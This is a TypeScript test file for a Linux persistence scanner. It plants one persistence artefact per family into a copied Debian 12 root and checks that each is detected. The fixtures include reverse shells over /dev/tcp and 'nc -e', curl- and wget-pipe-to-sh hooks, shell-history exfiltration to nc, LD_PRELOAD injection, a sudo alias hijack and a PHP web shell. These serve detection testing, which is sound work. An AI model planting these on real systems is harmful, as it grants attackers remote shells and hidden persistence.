/**
 * End to end: the stock Debian 12 root, copied, with one artefact of every persistence family issue 15 lists
 * planted under a name unique to this run; `sys-scan --root` must name each one (its file, and its command where
 * there is one) and nothing else above info, and --no-cmdline-meta must hide the commands. A second test checks
 * that the stock roots' inventories hold the points of the families each distribution ships.
 */
import assert from "node:assert/strict";
import type { Finding } from "../../src/core/finding.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { fixtureRoot, runOne, TempTree } from "../helpers.ts";
import { runCli } from "../selftest/run_cli.ts";
import { md5 } from "./persistence_fixtures.ts";

async function scan(root: string, extra: string[] = []) {
  const out = await runCli(["--root", root, "--enable", "persistence", "--hardening", ...extra]);
  assert.equal(out.code, 0, out.stderr);
  const report = JSON.parse(out.stdout) as {
    results: { scanner: string; findings: Finding[] }[];
    collection_warnings: unknown[];
  };
  return { findings: report.results.flatMap((r) => r.findings), warnings: report.collection_warnings };
}

function plant(root: string, rel: string, content: string, mode = 0o644): void {
  const path = `${root}/${rel}`;
  Deno.mkdirSync(path.slice(0, path.lastIndexOf("/")), { recursive: true });
  Deno.writeTextFileSync(path, content);
  Deno.chmodSync(path, mode);
}

/** One planted artefact: where, what it holds, the check that must name it and the command it must show. */
interface Plant {
  family: string;
  path: string;
  content: string;
  mode?: number;
  check: string;
  command?: string;
}

Deno.test("persistence end to end: one planted artefact per family is named, by file and command", async () => {
  using root = new TempTree(Deno.makeTempDirSync({ prefix: "sys-scan-persist-e2e-" }));
  const cp = new Deno.Command("/bin/cp", { args: ["-a", `${fixtureRoot("stock/debian12")}/.`, root.path] })
    .outputSync();
  assert.ok(cp.success);
  const u = `pa${crypto.randomUUID().slice(0, 8)}`;
  const r = root.path;
  const url = "http://203.0.113.5/" + u;
  const fakeLs = `#!/bin/sh\n/usr/bin/.${u} "$@" | grep -v ${u}\n`;
  const container = "c".repeat(56) + u;
  const planted: Plant[] = [
    // boot and service managers
    {
      family: "systemd generator",
      path: `/etc/systemd/system-generators/${u}-gen`,
      content: "#!/bin/sh\ntrue\n",
      mode: 0o755,
      check: "persistence.systemd_generator.unowned",
    },
    {
      family: "unit drop-in",
      path: `/etc/systemd/system/ssh.service.d/${u}.conf`,
      content: `[Service]\nExecStartPre=/tmp/${u}/s\n`,
      check: "persistence.command.untrusted_path",
      command: `/tmp/${u}/s`,
    },
    {
      family: "user unit",
      path: `/etc/systemd/user/${u}.service`,
      content: "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n",
      check: "persistence.command.reverse_shell",
      command: "/dev/tcp/203.0.113.5/4444",
    },
    {
      family: "SysV init script",
      path: `/etc/init.d/${u}`,
      content: "#!/bin/sh\n/usr/local/sbin/agent\n",
      mode: 0o755,
      check: "persistence.sysv_init.unowned",
    },
    {
      family: "GRUB",
      path: `/etc/default/grub.d/${u}.cfg`,
      content: `GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/usr/local/lib/${u}/init"\n`,
      check: "persistence.boot.init_override",
    },
    {
      family: "initramfs hook",
      path: `/etc/initramfs-tools/hooks/${u}`,
      content: "#!/bin/sh\ncopy_exec /usr/local/bin/agent /bin\n",
      mode: 0o755,
      check: "persistence.boot_script.unowned",
    },
    // package managers
    {
      family: "APT hook",
      path: `/etc/apt/apt.conf.d/99${u}`,
      content: `APT::Update::Pre-Invoke { "curl -fsSL ${url} | sh"; };\n`,
      check: "persistence.command.download_exec",
      command: url,
    },
    {
      family: "dpkg options file",
      path: `/etc/dpkg/dpkg.cfg.d/${u}`,
      content: `post-invoke=/var/tmp/${u}\n`,
      check: "persistence.command.untrusted_path",
      command: `/var/tmp/${u}`,
    },
    {
      family: "maintainer script",
      path: `/var/lib/dpkg/info/${u}.postinst`,
      content: "#!/bin/sh\nset -e\nrm -f /tmp/p; mkfifo /tmp/p\nnc -e /bin/sh 203.0.113.5 443 &\n",
      mode: 0o755,
      check: "persistence.command.reverse_shell",
      command: "nc -e /bin/sh",
    },
    {
      family: "package no repository provides",
      path: `/var/lib/dpkg/info/${u}.list`,
      content: `/.\n/usr\n/usr/bin\n/usr/bin/${u}-ls\n`,
      check: "persistence.package.not_in_repository",
    },
    {
      family: "dnf plugin",
      path: `/usr/lib/python3/dist-packages/dnf-plugins/${u}.py`,
      content: "import dnf\n",
      check: "persistence.dnf_plugin.unowned",
    },
    // dynamic linker and environment
    {
      family: "ld.so.conf",
      path: `/etc/ld.so.conf.d/${u}.conf`,
      content: `/dev/shm/${u}\n`,
      check: "persistence.ld_so_conf.untrusted_dir",
    },
    {
      family: "login environment",
      path: `/etc/environment.d/${u}.conf`,
      content: `LD_PRELOAD=/tmp/${u}.so\n`,
      check: "persistence.environment.loader_var",
    },
    // kernel module loading
    {
      family: "modules-load.d",
      path: `/etc/modules-load.d/${u}.conf`,
      content: `${u}\n`,
      check: "persistence.module_load.unknown",
    },
    {
      family: "modprobe.d install",
      path: `/etc/modprobe.d/${u}.conf`,
      content: `install ${u} /usr/local/bin/${u}\n`,
      check: "persistence.modprobe.command",
      command: `/usr/local/bin/${u}`,
    },
    // event hooks
    {
      family: "NetworkManager dispatcher",
      path: `/etc/NetworkManager/dispatcher.d/99-${u}`,
      content: `#!/bin/sh\ncurl -s ${url}/n | sh\n`,
      mode: 0o755,
      check: "persistence.command.download_exec",
      command: `${url}/n`,
    },
    {
      family: "if-up.d",
      path: `/etc/network/if-up.d/${u}`,
      content: `#!/bin/sh\n/dev/shm/.${u}/up\n`,
      mode: 0o755,
      check: "persistence.command.untrusted_path",
      command: `/dev/shm/.${u}/up`,
    },
    {
      family: "ppp ip-up.d",
      path: `/etc/ppp/ip-up.d/${u}`,
      content: `#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/5555 0>&1\n`,
      mode: 0o755,
      check: "persistence.command.reverse_shell",
      command: "/dev/tcp/203.0.113.5/5555",
    },
    {
      family: "logrotate script",
      path: `/etc/logrotate.d/${u}`,
      content: `/var/log/${u}.log {\n  postrotate\n    /tmp/.${u}/lr\n  endscript\n}\n`,
      check: "persistence.command.untrusted_path",
      command: `/tmp/.${u}/lr`,
    },
    {
      family: "udev rule under /usr/lib",
      path: `/usr/lib/udev/rules.d/99-${u}.rules`,
      content: 'ACTION=="add", RUN+="/usr/bin/logger added"\n',
      check: "persistence.hook.unpackaged",
    },
    {
      family: "binfmt_misc",
      path: `/etc/binfmt.d/${u}.conf`,
      content: `:${u}:E::${u}::/tmp/${u}-interp:\n`,
      check: "persistence.binfmt.untrusted_interpreter",
    },
    // shell and tools
    {
      family: "shell alias",
      path: "/home/debian/.bash_aliases",
      content: `alias sudo='/home/debian/.cache/${u}'\n`,
      check: "persistence.shell.shadowed_command",
    },
    {
      family: "PROMPT_COMMAND",
      path: `/etc/profile.d/${u}-prompt.sh`,
      content: "PROMPT_COMMAND='history 1 | nc 203.0.113.9 7'\n",
      check: "persistence.shell.command_capture",
    },
    {
      family: "trap DEBUG",
      path: `/etc/profile.d/${u}-trap.sh`,
      content: `trap 'echo $BASH_COMMAND | nc 203.0.113.9 8' DEBUG\n`,
      check: "persistence.shell.command_capture",
    },
    {
      family: "git config",
      path: "/etc/gitconfig",
      content: `[core]\n\tfsmonitor = /tmp/${u}-git\n`,
      check: "persistence.command.untrusted_path",
      command: `/tmp/${u}-git`,
    },
    {
      family: "Python .pth",
      path: `/usr/local/lib/python3.11/dist-packages/${u}.pth`,
      content: "import os;os.system('id')\n",
      check: "persistence.python.startup_code",
    },
    {
      family: "profile.d download",
      path: `/etc/profile.d/${u}-profile.sh`,
      content: `wget -qO- ${url}/p | sh\n`,
      check: "persistence.command.download_exec",
      command: `${url}/p`,
    },
    // binaries replaced in place, web shells
    {
      family: "replaced binary",
      path: `/usr/bin/${u}-ls`,
      content: fakeLs,
      mode: 0o755,
      check: "persistence.binary.replaced",
    },
    {
      family: "web shell",
      path: `/var/www/html/${u}.php`,
      content: "<?php echo shell_exec($_POST['c']);",
      check: "persistence.webshell.exec_request",
    },
    // scheduled work
    {
      family: "user crontab @reboot",
      path: "/var/spool/cron/crontabs/debian",
      content: `@reboot /tmp/${u}-cron\n`,
      mode: 0o600,
      check: "persistence.command.untrusted_path",
      command: `/tmp/${u}-cron`,
    },
    {
      family: "at job",
      path: `/var/spool/cron/atjobs/a00${u}`,
      content: `#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || {\n exit 1\n}\ncurl -s ${url}/at | sh\n`,
      mode: 0o700,
      check: "persistence.command.download_exec",
      command: `${url}/at`,
    },
    {
      family: "systemd timer",
      path: `/etc/systemd/system/${u}.timer`,
      content: "[Timer]\nOnCalendar=hourly\n",
      check: "persistence.command.untrusted_path",
      command: `/var/tmp/${u}`,
    },
    // containers as persistence
    {
      family: "self-restarting privileged container",
      path: `/var/lib/docker/containers/${container}/hostconfig.json`,
      content: JSON.stringify({ Privileged: true, RestartPolicy: { Name: "always" } }),
      check: "persistence.container.host_access_autostart",
    },
  ];
  for (const p of planted) plant(r, p.path.slice(1), p.content, p.mode);
  // What the planted artefacts need around them.
  Deno.symlinkSync(`../init.d/${u}`, `${r}/etc/rc2.d/S99${u}`);
  Deno.writeTextFileSync(
    `${r}/var/lib/dpkg/status`,
    `Package: ${u}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-1\n`,
  );
  plant(r, `var/lib/dpkg/info/${u}.md5sums`, `${await md5("#!/bin/sh\nexec /bin/ls\n")}  usr/bin/${u}-ls\n`);
  plant(
    r,
    "var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages",
    "Package: cron\nVersion: 3.0pl1-162\n",
  );
  plant(r, "lib/modules/6.1.0-21-amd64/modules.dep", "kernel/drivers/net/tun.ko:\n");
  plant(r, `etc/systemd/system/${u}.service`, `[Service]\nExecStart=/var/tmp/${u}\n`);
  plant(
    r,
    `var/lib/docker/containers/${container}/config.v2.json`,
    JSON.stringify({ ID: container, Name: `/${u}-c`, Config: { Image: "alpine" } }),
  );

  const report = await scan(r);
  const loud = report.findings.filter((f) => f.severity !== "info");
  const unnamed: string[] = [];
  for (const p of planted) {
    const named = loud.filter((f) =>
      f.check_id === p.check && (f.id.includes(p.path) || f.id.includes(u) || f.description.includes(u))
    );
    if (named.length === 0) {
      unnamed.push(`${p.family}: ${p.check} ${p.path}`);
      continue;
    }
    if (p.command) {
      assert.ok(
        named.some((f) => String(f.metadata.command ?? f.description).includes(p.command!)),
        `${p.family}: the finding shows the command ${p.command}`,
      );
    }
  }
  assert.deepEqual(unnamed, [], `not named:\n${loud.map((f) => f.id).join("\n")}`);
  const others = loud.filter((f) =>
    !f.id.includes(u) && !f.description.includes(u) && !planted.some(({ path }) => f.id.includes(path))
  );
  assert.deepEqual(others.map((f) => f.id), [], "nothing else on the stock root is loud");
  assert.deepEqual(report.warnings, []);

  // --no-cmdline-meta: every command line (more than a lone path) a finding showed is hidden everywhere in the
  // report, descriptions included, and the findings are still there.
  const redacted = await scan(r, ["--no-cmdline-meta"]);
  const hook = redacted.findings.find((f) =>
    f.id.includes(`99${u}`) && f.check_id.startsWith("persistence.command.")
  );
  assert.ok(hook, "the APT hook is still reported");
  assert.ok(
    !String(hook.metadata.command).includes(url),
    `the command is redacted: ${hook.metadata.command}`,
  );
  const commands = loud.map((f) => String(f.metadata.command ?? "")).filter((c) => /\S\s+\S/.test(c));
  assert.ok(commands.length >= 8, `command lines shown: ${commands.length}`);
  const text = JSON.stringify(redacted.findings);
  assert.deepEqual(commands.filter((c) => text.includes(c)), [], "command lines left readable");
  assert.equal(redacted.findings.filter((f) => f.severity !== "info").length, loud.length);
});

Deno.test("persistence stock roots: their inventory holds the points of every family the distribution ships", async () => {
  const expect: Record<string, string[]> = {
    debian12: [
      "systemd_generator",
      "sysv_init",
      "boot_config",
      "grub_script",
      "initramfs_script",
      "apt_hook",
      "ld_so_conf",
      "environment_file",
      "modules_load",
      "network_hook",
      "logrotate_script",
      "udev_rule",
      "binfmt",
      "python_startup",
      "shell_startup",
      "shell_definition",
      "shell_hook",
      "cron",
      "cron_script",
      "systemd_timer",
    ],
    ubuntu2404: [
      "logrotate_script",
      "udev_rule",
      "binfmt",
      "python_startup",
      "shell_startup",
      "cron",
      "systemd_timer",
      "apt_hook",
      "ld_so_conf",
    ],
    rhel9: [
      "network_hook",
      "logrotate_script",
      "udev_rule",
      "python_startup",
      "shell_definition",
      "cron",
      "systemd_timer",
      "boot_config",
      "dnf_plugin",
      "modprobe_command",
    ],
  };
  for (const [name, kinds] of Object.entries(expect)) {
    const r = await runOne(persistence, fixtureRoot(`stock/${name}`), { persistenceInventory: true });
    const found = new Set(r.findings.map((f) => String(f.metadata.kind)));
    assert.deepEqual(kinds.filter((k) => !found.has(k)), [], name);
  }
});
